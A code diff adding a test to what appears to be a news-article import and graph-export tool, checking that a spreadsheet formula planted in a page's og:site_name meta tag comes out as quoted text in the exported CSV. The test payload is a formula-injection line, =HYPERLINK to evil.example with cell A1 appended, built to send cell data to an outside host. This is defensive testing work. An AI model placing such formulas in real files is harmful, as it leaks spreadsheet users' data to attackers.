@@ -52,3 +52,25 @@ def test_app_downloads_neutralise_text_and_keep_numbers_and_dates():
     assert not _formulas(text)
     rows = list(csv.DictReader(io.StringIO(text)))
     assert rows[0]["outlet"] == "'" + PAYLOADS[0] and rows[5]["sources"] == "-6" and rows[0]["date"] == "2024-06-21"
+
+
+def test_an_og_site_name_formula_is_neutralised_from_page_to_csv(tmp_path):
+    """A page's og:site_name of =HYPERLINK(...) becomes the outlet; the CSV shows it as text."""
+    import sys
+    from pathlib import Path
+
+    sys.path.insert(0, str(Path(__file__).resolve().parent))
+    from hostile import article
+
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    meta = '<meta property="og:site_name" content="=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;klik&quot;)">'
+    page = tmp_path / "berita.html"
+    page.write_text(article("Bupati Sleman Minta Camat Data Warga", 3).decode().replace("<head>", "<head>" + meta))
+    db, out = str(tmp_path / "og.db"), tmp_path / "ekspor"
+    runner = CliRunner()
+    assert runner.invoke(app, ["import", str(page), "--db", db]).exit_code == 0
+    assert runner.invoke(app, ["extract", "--db", db]).exit_code == 0
+    assert runner.invoke(app, ["graph", "export", "--format", "csv", "--out", str(out), "--db", db]).exit_code == 0
+    nodes = (out / "nodes.csv").read_text(encoding="utf-8")
+    assert "'" + payload in {cell for row in csv.reader(io.StringIO(nodes)) for cell in row}   # the outlet cell
+    assert not _formulas(nodes)
